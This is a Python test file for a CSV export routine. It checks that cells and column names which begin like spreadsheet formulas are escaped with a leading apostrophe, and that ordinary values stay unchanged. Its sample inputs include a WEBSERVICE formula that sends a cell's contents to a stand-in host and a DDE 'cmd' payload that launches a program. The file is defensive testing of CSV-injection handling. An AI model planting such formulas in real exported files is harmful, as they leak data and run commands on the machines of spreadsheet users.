"""CSV files in a spreadsheet: names and values of others are texts there, and never formulas."""

import csv
from io import StringIO

import polars as pl

from veiltab.files.spreadsheets import csv_bytes

FORMULAS = {
    '=WEBSERVICE("https://e.example/?"&C2)': '\'=WEBSERVICE("https://e.example/?"&C2)',
    "@SUM(A1)": "'@SUM(A1)",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2-3": "'-2-3",
    "＝A1": "'＝A1",
    "low; =A1;-B2": "low; '=A1;'-B2",  # where semicolons separate fields
    'low;"=A1;x': "low;\"'=A1;x",  # doubled, which is an empty text before it there
    "-5 to <0+A1": "'-5 to <0+A1",
    "\t=A1": "\t'=A1",
}
PLAIN = (
    "-5",
    "+1.5e3",
    "-0,5",
    "-5%",
    "-5 to <0",
    "-1.5e3 to <-2",
    "-",
    "low",
    "a=b",
    "C34.1",
    "e-mail",
    "'=A1",
    "18 - 25",
    "a, -b",
)


def read(data: bytes) -> list[list[str]]:
    """Return the fields as any reader of CSV has them."""
    return list(csv.reader(StringIO(data.decode(), newline="")))


def test_no_text_is_a_formula() -> None:
    """Neither in a cell nor among the names of columns; all other texts stay as they are."""
    texts = [*FORMULAS, *PLAIN]
    frame = pl.DataFrame({"a": texts, "b": range(len(texts))})
    written = [*FORMULAS.values(), *PLAIN]
    assert read(csv_bytes(frame)) == [
        ["a", "b"],
        *([text, str(number)] for number, text in enumerate(written)),
    ]
    assert read(csv_bytes(frame, header=False))[0] == [written[0], "0"]
    categories = frame.select(pl.col("a").cast(pl.Enum(texts)))
    assert read(csv_bytes(categories, header=False))[:3] == [[text] for text in written[:3]]


def test_numbers_below_zero_and_missing_texts_stay_so() -> None:
    """What is no text cannot be a formula."""
    frame = pl.DataFrame({"a": [-0.5, None], "b": [None, "x"]})
    assert read(csv_bytes(frame)) == [["a", "b"], ["-0.5", ""], ["", "x"]]


def test_columns_keep_names_of_their_own() -> None:
    """Two columns are never given one name."""
    frame = pl.DataFrame({"=a": [1], "'=a": [2], "''=a": [3]})
    assert read(csv_bytes(frame))[0] == ["'''=a", "'=a", "''=a"]
